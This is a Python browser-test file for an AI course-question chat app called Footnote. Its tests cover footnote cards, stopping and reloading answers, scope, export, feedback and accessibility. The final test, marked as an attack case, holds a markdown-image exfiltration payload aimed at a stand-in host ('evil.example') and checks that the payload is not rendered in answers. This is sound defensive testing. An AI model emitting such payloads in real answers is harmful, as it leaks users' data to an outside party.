"""What a person does in the chat, in a real browser: ask, read a footnote, stop, come back, judge, choose where to ask."""

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from app.storage.conversations import Conversations
from tests.app.web.browser.browser_support import answered, ask, settle, until

pytestmark = pytest.mark.timeout(240)
Visit = Callable[..., Any]
STOP = '[class*="st-key-stop-"] button'


def test_ask_read_a_footnote_and_open_its_source(visit: Visit) -> None:
    page = visit()
    answered(page, "What is perplexity?")
    chip = page.get_by_role("link", name="Footnote 2").first
    card = page.locator(".fn-card").nth(1)
    assert not card.is_visible()
    chip.hover()
    card.wait_for(state="visible")
    assert "It falls when the context gets longer." in card.inner_text()
    assert "Measures of a model › Perplexity" in card.inner_text()
    marks = page.locator(".fn-source mark").all_inner_texts()
    assert marks[-1] == "It falls when the context gets longer."
    page.get_by_role("link", name="Open the source of footnote").first.click()
    quoted = page.locator(".st-key-pane #here mark")
    quoted.first.wait_for()
    assert "".join(quoted.all_inner_texts()) == (
        "Perplexity says how unsure a model is about the next token.It falls when the context gets longer."
    )
    assert page.locator(".fn-question", has_text="What is perplexity?").last.is_visible(), (
        "the conversation stays in view"
    )
    page.get_by_role("link", name="Back to the answer").click()
    page.locator(".fn-source a.fn-number:target").wait_for()
    until(page, lambda: page.locator(".st-key-pane").count() == 0)
    page.go_back()
    quoted.first.wait_for()
    page.get_by_role("link", name="Whole page").click()
    page.locator(".st-key-reader-text #here mark").first.wait_for()
    assert "/library?doc=measures&at=" in page.url


def stop_by_key(page: Any) -> None:
    """Each press draws the page anew and interrupts the one before, so there is more and more time between two."""
    for seconds in (4, 8, 16, 32):
        page.keyboard.press("Escape")
        for _ in range(10 * seconds):
            if page.get_by_text("You stopped this answer.").count():
                return
            page.wait_for_timeout(100)
    raise AssertionError("Esc does not stop the answer")


def test_states_are_shown_and_stop_keeps_what_is_there(visit: Visit) -> None:
    page = visit()
    ask(page, "slow one")
    page.get_by_text("Writing …").wait_for()
    page.locator(".fn-answer", has_text="word5").wait_for()
    page.locator(STOP).click()
    page.get_by_text("You stopped this answer.").wait_for()
    settle(page)
    kept = page.locator(".fn-answer").last.inner_text()
    assert "word5" in kept
    assert "word100" not in kept
    until(page, lambda: page.locator(STOP).count() == 0)
    page.reload()
    page.get_by_text("You stopped this answer.").wait_for()
    until(page, lambda: page.locator(".fn-answer").last.inner_text() == kept)


def test_an_answer_goes_on_while_its_page_is_reloaded(visit: Visit) -> None:
    page = visit()
    ask(page, "slow and reloaded")
    page.locator(".fn-answer", has_text="word3").wait_for()
    page.reload()
    page.locator(".fn-answer", has_text="word15").wait_for()
    page.locator(STOP).wait_for()

    stop_by_key(page)


def test_another_question_while_one_is_answered_stops_the_first(visit: Visit) -> None:
    page = visit()
    ask(page, "slow first")
    page.locator(".fn-answer", has_text="word2").wait_for()
    answered(page, "What is perplexity?")
    until(page, lambda: page.get_by_text("The next question was asked before this answer was complete.").count() == 1)
    assert page.locator(".fn-question").all_inner_texts() == ["slow first", "What is perplexity?"]


def test_a_new_question_is_brought_into_view_even_if_it_is_answered_at_once(visit: Visit) -> None:
    page = visit(height=500)
    for question in ("What is perplexity?", "nothing of it", "broken on purpose"):
        ask(page, question)
        asked = page.locator(".fn-question", has_text=question)
        until(page, lambda asked=asked: 0 <= asked.bounding_box()["y"] < 250)  # type: ignore[misc]
        settle(page)


def test_conversations_are_listed_found_renamed_exported_and_deleted(visit: Visit) -> None:
    page = visit()
    answered(page, "What is perplexity, exactly?")
    address = page.url
    page.get_by_role("link", name="New conversation").click()
    page.get_by_text("Ask anything about").wait_for()
    until(page, lambda: "c=" not in page.url)
    page.get_by_role("link", name="What is perplexity, exactly?").first.click()
    page.locator(".fn-chip").first.wait_for()
    until(page, lambda: page.url == address)
    page.get_by_test_id("stPopoverButton").filter(has_text="Conversation").click()
    title = page.get_by_label("Title")
    title.fill("Measures, for the exam")
    title.press("Enter")
    page.get_by_role("link", name="Measures, for the exam").wait_for()
    settle(page)
    if not page.get_by_role("button", name="Export as Markdown").is_visible():
        page.get_by_test_id("stPopoverButton").filter(has_text="Conversation").click()
    with page.expect_download() as loading:
        page.get_by_role("button", name="Export as Markdown").click()
    text = Path(loading.value.path()).read_text(encoding="utf-8")
    assert "## What is perplexity, exactly?" in text
    assert "[^1]: “Perplexity says" in text
    page.get_by_role("button", name="Delete this conversation").click()
    page.get_by_role("button", name="Delete it for good").click()
    page.get_by_text("Ask anything about").wait_for()
    until(page, lambda: page.get_by_role("link", name="Measures, for the exam").count() == 0)


def test_feedback_is_kept(visit: Visit, scripted_site: tuple[str, Path]) -> None:
    page = visit()
    answered(page, "What is perplexity to me?")
    page.get_by_role("radio", name="Thumbs down").click()
    reason = page.get_by_label("Why? (optional)")
    reason.fill("no example")
    reason.press("Enter")
    kept = Conversations(scripted_site[1] / "data" / "footnote.db")

    def given() -> list[tuple[int, str]]:
        return [(one.rating, one.reason) for one in kept.feedback() if one.question == "What is perplexity to me?"]

    until(page, lambda: given() == [(0, "no example")])
    page.reload()
    page.locator(".fn-chip").first.wait_for()
    until(page, lambda: page.get_by_label("Why? (optional)").input_value() == "no example")


def test_the_scope_is_chosen_and_shared_by_the_link(visit: Visit) -> None:
    page = visit()
    settle(page)
    page.get_by_role("button", name="Ask in the whole course").click()
    page.get_by_label("Find a document or section").fill("perpl")
    page.get_by_role("link", name="Perplexity", exact=True).click()
    page.wait_for_url(re.compile(r"in=measures%2FPerplexity"))
    other = visit(page.url.removeprefix(page.url.split("/?")[0]), stranger=True)
    other.get_by_role("button", name="Ask in “Perplexity”").wait_for()
    answered(other, "What is perplexity?")
    other.get_by_role("link", name="New conversation").click()
    other.get_by_role("button", name="Ask in the whole course").click()
    other.get_by_text("Used before").wait_for()
    assert other.locator(".fn-scope a.fn-part").all_inner_texts()[:2] == ["The whole course", "“Perplexity”"]


def test_what_the_chosen_part_does_not_cover_can_be_asked_of_the_whole_course(visit: Visit) -> None:
    page = visit("/?in=measures%2FTable")
    answered(page, "nothing of it")
    page.get_by_text("The chosen part of the course does not cover this").wait_for()
    page.get_by_role("button", name="Ask in the whole course").click()
    page.get_by_text("The course does not cover this", exact=True).wait_for()
    settle(page)
    assert page.locator(".fn-question").all_inner_texts() == ["nothing of it"] * 2
    assert "in=" not in page.url
    left = page.get_by_role("button", name="Ask in the whole course")  # the scope says so now, the refusal no more
    assert left.get_attribute("data-testid") == "stPopoverButton"


def test_a_link_to_a_conversation_that_is_not_here_says_so(visit: Visit) -> None:
    page = visit("/?c=nowhere")
    page.get_by_text("The conversation of this link is not here").wait_for()
    answered(page, "What is perplexity after all?")
    assert page.get_by_text("The conversation of this link is not here").count() == 0


def test_a_refusal_and_a_failure_are_told(visit: Visit) -> None:
    page = visit()
    answered(page, "nothing of it")
    page.get_by_text("The course does not cover this").first.wait_for()
    page.get_by_role("link", name="Measures of a model › Perplexity").wait_for()
    ask(page, "crash it")
    page.get_by_text("Something went wrong in Footnote itself").wait_for()
    assert "secret detail" not in page.content()


def test_details_behind_one_button(visit: Visit) -> None:
    page = visit()
    answered(page, "What is perplexity?")
    page.get_by_role("button", name="Details").click()
    details = page.locator(".fn-details")
    details.wait_for()
    assert "92% that the course answers this" in details.inner_text()
    assert "1,200 read, 80 written" in details.inner_text()


def test_two_users_at_once(visit: Visit) -> None:
    first, second = visit(), visit(stranger=True)
    ask(first, "slow for the first")
    first.locator(".fn-answer", has_text="word2").wait_for()
    answered(second, "What is perplexity?")
    assert second.locator(".fn-question").all_inner_texts() == ["What is perplexity?"]
    first.locator(".fn-answer", has_text="word8").wait_for()
    first.locator(STOP).click()
    first.get_by_text("You stopped this answer.").wait_for()
    assert first.locator(".fn-question").all_inner_texts() == ["slow for the first"]


def test_by_keyboard_alone(visit: Visit) -> None:
    page = visit()
    settle(page)
    page.get_by_test_id("stChatInputTextArea").focus()
    page.keyboard.type("What is perplexity?")
    page.keyboard.press("Enter")
    page.locator(".fn-chip").first.wait_for()
    settle(page)
    for _ in range(200):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.classList.contains('fn-chip')"):
            break
    page.locator(".fn-card").first.wait_for(state="visible")
    page.keyboard.press("Enter")
    until(page, lambda: page.url.endswith("source-1"))


def test_esc_closes_a_card_and_leaves_everything_else_as_it_is(visit: Visit) -> None:
    page = visit()
    answered(page, "What is perplexity?")
    chip, card = page.locator(".fn-chip").first, page.locator(".fn-card").first
    page.mouse.move(0, 0)
    page.get_by_role("button", name="Details").focus()
    for _ in range(20):
        page.keyboard.press("Shift+Tab")
        if chip.evaluate("chip => chip === document.activeElement"):
            break
    card.wait_for(state="visible")
    page.keyboard.press("Escape")
    card.wait_for(state="hidden")
    assert chip.evaluate("chip => chip === document.activeElement")
    page.keyboard.press("Tab")
    page.keyboard.press("Shift+Tab")
    card.wait_for(state="visible")
    page.get_by_test_id("stChatInputTextArea").focus()
    card.wait_for(state="hidden")
    chip.hover()
    card.wait_for(state="visible")
    page.keyboard.press("Escape")
    card.wait_for(state="hidden")
    page.mouse.move(0, 0)
    chip.hover()
    card.wait_for(state="visible")


def test_esc_closes_the_card_first_and_stops_the_answer_next(visit: Visit) -> None:
    page = visit()
    ask(page, "slow with a card")
    page.locator(STOP).wait_for()
    page.locator(".fn-chip").first.hover()
    page.locator(".fn-card").first.wait_for(state="visible")
    page.keyboard.press("Escape")
    page.locator(".fn-answer", has_text="word25").wait_for()
    assert page.get_by_text("You stopped this answer.").count() == 0
    assert not page.locator(".fn-card").first.is_visible(), "the card came back when the answer grew"
    page.mouse.move(0, 0)

    stop_by_key(page)


def test_phone_width(visit: Visit) -> None:
    page = visit(width=400, height=800)
    answered(page, "What is perplexity?")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    cards = page.locator(".fn-sources-list")
    assert not cards.is_visible()
    page.get_by_text("2 footnotes").click()
    cards.wait_for(state="visible")
    page.get_by_text("2 footnotes").click()
    cards.wait_for(state="hidden")
    page.get_by_role("link", name="Footnote 2").first.click()
    cards.wait_for(state="visible")


def test_dark_mode_follows_the_system(visit: Visit) -> None:
    def colours(page: Any) -> tuple[int, int]:
        paper, ink = page.evaluate(
            "[getComputedStyle(document.querySelector('.stApp')).backgroundColor, getComputedStyle(document.querySelector('.fn-welcome h1')).color]"
        )
        return tuple(sum(map(int, re.findall(r"\d+", colour)[:3])) for colour in (paper, ink))  # type: ignore[return-value]

    light, dark = visit(), visit(dark=True)
    for page in (light, dark):
        page.locator(".fn-welcome h1").wait_for()
    (light_paper, light_ink), (dark_paper, dark_ink) = colours(light), colours(dark)
    assert light_paper > 600 > 250 > light_ink
    assert dark_paper < 150 < 500 < dark_ink


@pytest.mark.attack("script, links or pictures in what is quoted", "dead")
def test_nothing_of_an_answer_is_loaded_from_elsewhere(visit: Visit) -> None:
    page = visit()
    answered(page, "evil question")
    page.wait_for_timeout(500)
    assert page.locator(".fn-answer img, .fn-answer script, .fn-answer iframe").count() == 0
    assert "![leak](https://evil.example/?q=secret)" not in page.locator(".fn-answer").inner_html()
